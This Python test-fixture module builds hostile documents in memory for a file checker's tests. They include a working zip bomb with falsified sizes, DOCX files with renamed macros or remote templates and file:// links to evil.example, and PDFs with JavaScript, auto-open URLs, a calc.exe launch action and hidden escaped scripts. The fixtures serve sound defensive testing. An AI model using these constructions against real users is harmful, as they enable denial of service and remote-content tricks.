"""Hostile documents built in memory, for tests/candidacies/test_hostile_files.py and bench/hostile_files.py: a zip
bomb with faked sizes, DOCX files with renamed macros, external templates and file links, ODT packages flagged
encrypted or with a broken deflate stream, and PDFs that run JavaScript, act by themselves, launch programs or carry
files. Each is small; none is stored in the repository."""

import io
import struct
import zipfile
import zlib

MiB = 1024 * 1024
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_DOCUMENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
ODF_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
    "<office:scripts>{scripts}</office:scripts><office:body><office:text><text:p>{body}</text:p>"
    "</office:text></office:body></office:document-content>"
)
# An OLE compound file's start and the name of the stream that holds a VBA project (UTF-16, as in its directory).
OLE_VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 64


# Archives


def zipped(parts):
    """A ZIP of (name, content) pairs, deflated, the first one stored (as OpenDocument's mimetype must be)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for index, (name, content) in enumerate(parts):
            archive.writestr(name, content, compress_type=zipfile.ZIP_STORED if index == 0 else None)
    return buffer.getvalue()


def raw_zip(entries):
    """A ZIP written by hand, for what zipfile refuses to write: each entry is (name, packed bytes, method,
    declared CRC, declared unpacked size, flags); the directory declares what the entry says, not what is there."""
    body, directory = bytearray(), bytearray()
    for name, packed, method, crc, size, flags in entries:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, len(packed), size, len(encoded), 0
        )
        body += encoded + packed
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, crc, len(packed), size, len(encoded),
            0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        directory += encoded
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return bytes(body + directory + end)


def stored(name, content, *, flags=0):
    return (name, content, zipfile.ZIP_STORED, zlib.crc32(content), len(content), flags)


def deflated(name, content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return (name, packer.compress(content) + packer.flush(), zipfile.ZIP_DEFLATED, zlib.crc32(content), len(content), 0)


def zeros_deflated(size):
    """A deflate stream of `size` zero bytes (a multiple of 1 MiB), built from one compressed MiB repeated: after a
    full flush the compressor starts afresh, so each MiB packs to the same ~1 KB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = packer.compress(bytes(MiB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return one * (size // MiB) + zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()


def docx_parts(*, relationships="", content_types="", extra=(), document_type=DOCUMENT_TYPE, settings_rels=""):
    """The parts of a minimal real DOCX, with extra relationships of the main document, content types and parts."""
    parts = [
        (
            "[Content_Types].xml",
            f'<Types xmlns="{CONTENT_TYPES}"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{document_type}"/>{content_types}</Types>',
        ),
        (
            "_rels/.rels",
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" '
            f'Type="{OFFICE_RELATIONSHIPS}/officeDocument" Target="word/document.xml"/></Relationships>',
        ),
        ("word/document.xml", f'<w:document xmlns:w="{W}"><w:body><w:p/></w:body></w:document>'),
        (
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId9" Type="{OFFICE_RELATIONSHIPS}/settings" '
            f'Target="settings.xml"/>{relationships}</Relationships>',
        ),
        ("word/settings.xml", f'<w:settings xmlns:w="{W}"/>'),
    ]
    if settings_rels:
        parts.append(
            ("word/_rels/settings.xml.rels", f'<Relationships xmlns="{RELATIONSHIPS}">{settings_rels}</Relationships>')
        )
    return parts + list(extra)


def docx(**options):
    return zipped(docx_parts(**options))


def relationship(kind, target, *, external=True, number=20):
    mode = ' TargetMode="External"' if external else ""
    namespace = VBA_RELATIONSHIP.rsplit("/", 1)[0] if kind == "vbaProject" else OFFICE_RELATIONSHIPS
    return f'<Relationship Id="rId{number}" Type="{namespace}/{kind}" Target="{target}"{mode}/>'


def zip_bomb(unpacked=1024 * MiB):
    """A DOCX of about 1 MB whose image part unpacks to `unpacked` zero bytes while the archive declares it one byte
    (packed and unpacked sizes, CRC left 0: the check must stop at its budget long before a checksum counts)."""
    parts = [deflated(name, content.encode()) for name, content in docx_parts()]
    bomb = ("word/media/image1.png", zeros_deflated(unpacked), zipfile.ZIP_DEFLATED, 0, 1, 0)
    return raw_zip([*parts, bomb])


def renamed_macros():
    """Word's VBA project renamed word/macros.bin, as a macro-enabled document declares it: by its content type, its
    relationship from the document, and its content (an OLE file with a _VBA_PROJECT stream)."""
    return docx(
        document_type=MACRO_DOCUMENT_TYPE,
        content_types=f'<Override PartName="/word/macros.bin" ContentType="{VBA_TYPE}"/>',
        relationships=relationship("vbaProject", "macros.bin", external=False),
        extra=[("word/macros.bin", OLE_VBA_PROJECT)],
    )


def external_template(target="https://templates.evil.example/briefpapier.dotm"):
    return docx(settings_rels=relationship("attachedTemplate", target))


def file_image(target="file://evil.example/share/logo.png"):
    return docx(relationships=relationship("image", target))


def odt(*, scripts="", body="Plan", extra=()):
    """A minimal real ODT: `scripts` inside office:scripts, `body` in its one paragraph, `extra` parts after."""
    return zipped([("mimetype", ODT_MIMETYPE), ("content.xml", ODF_CONTENT.format(scripts=scripts, body=body)), *extra])


def encrypted_odt():
    """An ODT whose mimetype entry is flagged encrypted (zipfile would raise RuntimeError opening it)."""
    return raw_zip([stored("mimetype", ODT_MIMETYPE, flags=0x1), deflated("content.xml", b"<x/>")])


def corrupt_odt():
    """An ODT whose mimetype entry is a deflate stream that breaks at once (zlib.error: invalid block type)."""
    return raw_zip([("mimetype", b"\xff\xff\xff\xff", zipfile.ZIP_DEFLATED, 0, len(ODT_MIMETYPE), 0)])


# PDFs


def pdf(catalog="", page="", objects=(), after=b""):
    """A valid PDF of one page: `catalog` and `page` added to those dictionaries, `objects` numbered from 4,
    `after` appended behind the end (no cross-reference table lists it)."""
    contents = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>".encode(),
        *(item.encode() if isinstance(item, str) else item for item in objects),
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(contents, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(contents) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(contents) + 1, xref)
    return body + after


def pdf_javascript():
    return pdf(
        catalog="/Names << /JavaScript << /Names [(start) 4 0 R] >> >>",
        objects=["<< /S /JavaScript /JS (app.alert('hallo');) >>"],
    )


def pdf_open_action():
    return pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example/geopend) >>")


def pdf_launch():
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >> >>"
    return pdf(page="/Annots [4 0 R]", objects=[link])


def pdf_embedded_file():
    payload = b"MZ\x90\x00 not really a program"
    return pdf(
        catalog="/Names << /EmbeddedFiles << /Names [(begroting.exe) 4 0 R] >> >>",
        objects=[
            "<< /Type /Filespec /F (begroting.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        ],
    )


def pdf_hidden_escaped_javascript():
    """JavaScript in an object no cross-reference table lists, its names escaped: pypdf never reads it, a reader
    that rebuilds a broken table does; only the raw scan finds it, once `#xx` is undone."""
    return pdf(after=b"9 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n")


HOSTILE = {
    "zip bomb: 1 GiB declared as 1 byte": lambda: zip_bomb(),
    "DOCX with its macros renamed word/macros.bin": renamed_macros,
    "DOCX with an external attachedTemplate": external_template,
    "DOCX with a file:// image": file_image,
    "ODT with its mimetype flagged encrypted": encrypted_odt,
    "ODT with a corrupt deflate stream": corrupt_odt,
    "PDF with JavaScript": pdf_javascript,
    "PDF with an OpenAction": pdf_open_action,
    "PDF with a Launch action": pdf_launch,
    "PDF with an embedded file": pdf_embedded_file,
    "PDF with escaped JavaScript outside the xref": pdf_hidden_escaped_javascript,
}


def element_bomb(elements=25_000_000):
    """A DOCX of about 100 KB with a relationships part of 25 million empty elements (100 MB unpacked)."""
    rels = f'<Relationships xmlns="{RELATIONSHIPS}">'.encode() + b"<a/>" * elements + b"</Relationships>"
    parts = [deflated(name, content.encode()) for name, content in docx_parts()]
    return raw_zip([*parts, deflated("word/_rels/extra.xml.rels", rels)])


def many_parts(count=60_000):
    """A ZIP of 60,000 empty parts: zipfile would build an object for each before anything could count them."""
    return raw_zip([stored(f"word/media/{number}.png", b"") for number in range(count)])


def pdf_of_objects(count):
    return pdf(objects=["<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents (x) >>"] * count)


# Files that cost time rather than do harm: bench/hostile_files.py shows the check stays bounded on them.
HEAVY = {
    "DOCX of 25 million XML elements": element_bomb,
    "ZIP of 60,000 parts": many_parts,
    "PDF of 20,000 objects (the limit)": lambda: pdf_of_objects(20_000 - 4),
    "PDF followed by 9 million empty lines": lambda: pdf(after=b"\n" * 9_000_000),
}
